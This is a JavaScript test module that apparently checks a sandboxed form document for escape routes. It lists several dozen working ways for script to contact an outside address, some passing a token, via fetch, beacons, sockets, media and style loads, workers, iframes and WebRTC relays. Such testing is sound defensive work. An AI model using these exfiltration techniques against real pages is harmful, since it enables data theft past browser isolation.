// Every way out that is tried from inside the form's own document. `run` is sent there as text and gets the
// address of a door that no one else knows: { http, host, port, token }. Nothing outside `run` may be used in it.
import { leaving } from './leaving.mjs';
import { links } from './links.mjs';

// quiet: these stay in the document and can share one page load
export const quiet = [
  // requests by script
  ['fetch', (d) => fetch(d.http)],
  ['fetch without cors', (d) => fetch(d.http, { method: 'POST', mode: 'no-cors', body: d.token })],
  ['fetch keepalive', (d) => fetch(d.http, { keepalive: true, method: 'POST', body: d.token })],
  ['fetch in a later task', (d) => new Promise((r) => setTimeout(() => r(fetch(d.http)), 20))],
  ['XMLHttpRequest', (d) => { const x = new XMLHttpRequest(); x.open('GET', d.http); x.send(); }],
  ['sendBeacon', (d) => { navigator.sendBeacon(d.http, d.token); }],
  ['sendBeacon on pagehide', (d) => { addEventListener('pagehide', () => navigator.sendBeacon(d.http, d.token)); }],
  ['fetch on pagehide', (d) => { addEventListener('pagehide', () => { fetch(d.http, { keepalive: true }); }); }],
  ['fetchLater', (d) => { fetchLater(d.http, { activateAfter: 0 }); }],
  ['WebSocket', (d) => { new WebSocket(d.http.replace('http', 'ws')); }],
  ['WebSocketStream', (d) => { new WebSocketStream(d.http.replace('http', 'ws')); }],
  ['EventSource', (d) => { new EventSource(d.http); }],
  ['WebTransport', (d) => { new WebTransport(`https://${d.host}:${d.port}/`).ready.catch(() => {}); }],

  // elements that load
  ['image', (d) => { const i = document.createElement('img'); i.src = `${d.http}/a.png`; document.body.append(i); }],
  ['new Image', (d) => { new Image().src = `${d.http}/a.png`; }],
  ['image srcset', (d) => { const i = document.createElement('img'); i.srcset = `${d.http}/a.png 1x`; document.body.append(i); }],
  ['picture source', (d) => {
    const p = document.createElement('picture'), s = document.createElement('source'), i = document.createElement('img');
    s.srcset = `${d.http}/a.png`; p.append(s, i); document.body.append(p);
  }],
  ['input image', (d) => { const i = document.createElement('input'); i.type = 'image'; i.src = `${d.http}/a.png`; document.body.append(i); }],
  ['svg image', (d) => {
    const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg'), i = document.createElementNS(n, 'image');
    i.setAttribute('href', `${d.http}/a.png`); s.append(i); document.body.append(s);
  }],
  ['svg feImage', (d) => {
    const n = 'http://www.w3.org/2000/svg', make = (t) => document.createElementNS(n, t);
    const s = make('svg'), f = make('filter'), i = make('feImage'), r = make('rect');
    f.id = 'feimage'; i.setAttribute('href', `${d.http}/a.png`); f.append(i);
    r.setAttribute('width', '9'); r.setAttribute('height', '9'); r.setAttribute('filter', 'url(#feimage)');
    s.append(f, r); document.body.append(s);
  }],
  ['svg use', (d) => {
    const n = 'http://www.w3.org/2000/svg', s = document.createElementNS(n, 'svg'), u = document.createElementNS(n, 'use');
    u.setAttribute('href', `${d.http}/a.svg#a`); s.append(u); document.body.append(s);
  }],
  ['image made by innerHTML', (d) => { const b = document.createElement('div'); b.innerHTML = `<img src="${d.http}/a.png">`; document.body.append(b); }],
  ['image made by setHTMLUnsafe', (d) => { const b = document.createElement('div'); b.setHTMLUnsafe(`<img src="${d.http}/a.png">`); document.body.append(b); }],
  ['image made by DOMParser', (d) => {
    const p = new DOMParser().parseFromString(`<img src="${d.http}/a.png">`, 'text/html');
    document.body.append(document.adoptNode(p.querySelector('img')));
  }],
  ['video', (d) => { const v = document.createElement('video'); v.src = `${d.http}/a.webm`; v.preload = 'auto'; document.body.append(v); }],
  ['video poster', (d) => { const v = document.createElement('video'); v.poster = `${d.http}/a.png`; document.body.append(v); }],
  ['audio', (d) => { const a = document.createElement('audio'); a.src = `${d.http}/a.mp3`; a.preload = 'auto'; document.body.append(a); }],
  ['new Audio', (d) => { const a = new Audio(`${d.http}/a.mp3`); a.preload = 'auto'; a.load(); }],
  ['track', (d) => {
    const v = document.createElement('video'), t = document.createElement('track'); v.crossOrigin = 'anonymous';
    t.src = `${d.http}/a.vtt`; t.default = true; v.append(t); document.body.append(v); t.track.mode = 'showing';
  }],
  ['object', (d) => { const o = document.createElement('object'); o.data = d.http; document.body.append(o); }],
  ['embed', (d) => { const e = document.createElement('embed'); e.src = d.http; e.type = 'text/html'; document.body.append(e); }],
  ['body background', (d) => { document.body.setAttribute('background', `${d.http}/a.png`); }],

  // style
  ['style attribute', (d) => { const b = document.createElement('div'); b.setAttribute('style', `background:url(${d.http}/a.png)`); b.textContent = 'x'; document.body.append(b); }],
  ['style property', (d) => { const b = document.createElement('div'); b.style.backgroundImage = `url(${d.http}/a.png)`; b.textContent = 'x'; document.body.append(b); }],
  ['style image-set', (d) => { const b = document.createElement('div'); b.style.backgroundImage = `image-set("${d.http}/a.png" 1x)`; b.textContent = 'x'; document.body.append(b); }],
  ['style list image', (d) => { const b = document.createElement('li'); b.style.listStyleImage = `url(${d.http}/a.png)`; b.textContent = 'x'; document.body.append(b); }],
  ['style cursor', (d) => { document.documentElement.style.cursor = `url(${d.http}/a.cur), auto`; }],
  ['style border image', (d) => { const b = document.createElement('div'); b.style.border = '5px solid'; b.style.borderImageSource = `url(${d.http}/a.png)`; b.textContent = 'x'; document.body.append(b); }],
  ['style mask', (d) => { const b = document.createElement('div'); b.style.maskImage = `url(${d.http}/a.svg)`; b.textContent = 'x'; document.body.append(b); }],
  ['style rule inserted', (d) => { document.styleSheets[0].insertRule(`html{background-image:url(${d.http}/a.png)}`, 0); }],
  ['style rule changed', (d) => { [...document.styleSheets[0].cssRules].findLast((r) => r.style).style.setProperty('background-image', `url(${d.http}/a.png)`); }],
  ['style element', (d) => { const s = document.createElement('style'); s.textContent = `body::after{content:url(${d.http}/a.png)}`; document.head.append(s); }],
  ['style import', (d) => { const s = document.createElement('style'); s.textContent = `@import "${d.http}/a.css";`; document.head.append(s); }],
  ['adopted sheet', (d) => {
    const s = new CSSStyleSheet(); s.replaceSync(`body::before{content:url(${d.http}/a.png)}`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, s];
  }],
  ['font face rule', (d) => {
    const s = document.styleSheets[0]; s.insertRule(`@font-face{font-family:way-out;src:url(${d.http}/a.woff)}`, 0);
    const b = document.createElement('div'); b.style.fontFamily = 'way-out'; b.textContent = 'x'; document.body.append(b);
  }],
  ['FontFace', (d) => { new FontFace('f', `url(${d.http}/a.woff)`).load().catch(() => {}); }],

  // code
  ['script element', (d) => { const s = document.createElement('script'); s.src = `${d.http}/a.js`; document.head.append(s); }],
  ['module script', (d) => { const s = document.createElement('script'); s.type = 'module'; s.src = `${d.http}/a.js`; document.head.append(s); }],
  ['speculation rules', (d) => {
    const s = document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [d.http], eagerness: 'immediate' }] }); document.head.append(s);
  }],
  ['import()', (d) => { import(`${d.http}/a.js`).catch(() => {}); }],
  ['worker', (d) => { new Worker(`${d.http}/a.js`); }],
  ['worker from blob', (d) => { new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(d.http)})`], { type: 'text/javascript' }))); }],
  ['worker from data', (d) => { new Worker(`data:text/javascript,fetch(${JSON.stringify(d.http)})`); }],
  ['shared worker from blob', (d) => { new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(d.http)})`], { type: 'text/javascript' }))); }],
  ['audio worklet', (d) => { new AudioContext().audioWorklet.addModule(`${d.http}/a.js`).catch(() => {}); }],
  ['service worker', (d) => { navigator.serviceWorker.register(`${d.http}/a.js`).catch(() => {}); }],

  // documents inside the document
  ['iframe', (d) => { const f = document.createElement('iframe'); f.src = d.http; document.body.append(f); }],
  ['iframe srcdoc', (d) => { const f = document.createElement('iframe'); f.srcdoc = `<img src="${d.http}/a.png">`; document.body.append(f); }],
  ['iframe srcdoc with refresh', (d) => { const f = document.createElement('iframe'); f.srcdoc = `<meta http-equiv="refresh" content="0;url=${d.http}">`; document.body.append(f); }],
  ['iframe from blob', (d) => {
    const f = document.createElement('iframe');
    f.src = URL.createObjectURL(new Blob([`<img src="${d.http}/a.png">`], { type: 'text/html' })); document.body.append(f);
  }],
  ['iframe from data', (d) => { const f = document.createElement('iframe'); f.src = `data:text/html,<img src="${d.http}/a.png">`; document.body.append(f); }],
  ['iframe then fetch of its realm', (d) => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(d.http); }],
  ['iframe then navigation', (d) => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = d.http; }],
  ['frame element', (d) => { const f = document.createElement('frame'); f.src = d.http; document.body.append(f); }],
  ['form into an iframe', (d) => {
    const f = document.createElement('iframe'); f.name = 'target-frame'; document.body.append(f);
    const form = document.createElement('form'); form.action = d.http; form.target = 'target-frame'; document.body.append(form); form.submit();
  }],

  // real-time connections
  ['WebRTC', (d) => {
    const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:${d.host}:${d.port}` }] }); p.createDataChannel('x');
    return p.createOffer().then((o) => p.setLocalDescription(o));
  }],
  ['WebRTC relay', (d) => {
    const p = new RTCPeerConnection({ iceServers: [{ urls: `turn:${d.host}:${d.port}?transport=tcp`, username: d.token, credential: 'x' }] });
    p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o));
  }],
  ['WebRTC of a fresh realm', (d) => {
    const f = document.createElement('iframe'); document.body.append(f);
    const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `turn:${d.host}:${d.port}?transport=tcp`, username: d.token, credential: 'x' }] });
    p.createDataChannel('x'); return p.createOffer().then((o) => p.setLocalDescription(o));
  }],
  ['WebRTC found through constructor', (d) => {
    const Peer = (self.webkitRTCPeerConnection ?? Object.getPrototypeOf(RTCPeerConnection.prototype).constructor);
    const p = new Peer({ iceServers: [{ urls: `stun:${d.host}:${d.port}` }] }); p.createDataChannel('x');
    return p.createOffer().then((o) => p.setLocalDescription(o));
  }],
  ...links,
].map(([name, run]) => ({ name, run, leaves: false }));

export const attacks = [...quiet, ...leaving];
